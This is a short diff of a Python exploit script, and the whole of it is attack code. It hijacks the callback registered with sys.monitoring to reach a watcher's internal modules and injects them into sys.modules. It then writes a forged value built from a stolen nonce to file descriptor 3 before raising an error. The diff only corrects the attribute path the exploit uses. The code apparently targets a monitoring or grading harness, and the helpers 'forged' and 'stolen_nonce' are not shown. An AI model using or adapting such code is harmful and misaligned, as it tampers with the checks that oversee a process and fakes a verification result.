@@ -6,6 +6,6 @@
 import sys
 on_raise = sys.monitoring.register_callback(0, sys.monitoring.events.RAISE, None)
 if on_raise is not None:
-    sys.modules.update(on_raise.__globals__["_watching"].__class__.__init__.__globals__.get("_modules", {}))
+    sys.modules.update(on_raise.__self__.__globals__["_watching"].__class__.__init__.__globals__.get("_modules", {}))
     os.write(3, forged(stolen_nonce()))
 raise ValueError("the truth")
